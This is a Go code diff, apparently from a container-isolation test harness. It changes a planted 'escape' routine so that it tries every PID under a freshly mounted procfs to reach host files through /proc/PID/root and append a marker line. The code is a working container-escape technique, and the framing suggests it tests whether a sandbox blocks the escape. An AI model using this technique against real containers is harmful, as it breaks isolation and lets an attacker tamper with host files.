@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 
 	"golang.org/x/sys/unix"
@@ -21,7 +22,8 @@ import (
 // that the kernel otherwise answers itself (EOPNOTSUPP for a bogus
 // operation). ESCAPE is the attack: mount a fresh procfs, which shows the
 // mounter's pid namespace, at /shared/proc and append a line to the host
-// file named in /shared/victim through /proc/1/root of that procfs. The
+// file named in /shared/victim through /proc/PID/root of that procfs, for
+// any PID it can. The
 // lines go to stdout and are appended to /shared/planted.log, if present.
 
 // plantedNames are the names the container plants the program under.
@@ -78,11 +80,21 @@ func escape() string {
 	if mountErr == nil {
 		defer unix.Unmount(dir, unix.MNT_DETACH)
 	}
-	path := filepath.Join(dir, "1/root", strings.TrimSpace(string(victim)))
-	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
-	if err == nil {
-		_, err = f.WriteString("written by the container's planted program\n")
-		f.Close()
+	// Any process of the procfs's pid namespace whose root is the host's
+	// will do: try them all.
+	err = unix.ENOENT
+	entries, _ := os.ReadDir(dir)
+	for _, e := range entries {
+		if _, convErr := strconv.Atoi(e.Name()); convErr != nil {
+			continue
+		}
+		path := filepath.Join(dir, e.Name(), "root", strings.TrimSpace(string(victim)))
+		var f *os.File
+		if f, err = os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0); err == nil {
+			_, err = f.WriteString("written by the container's planted program\n")
+			f.Close()
+			break
+		}
 	}
 	return fmt.Sprintf("mount=%s write=%s", result(mountErr), result(err))
 }
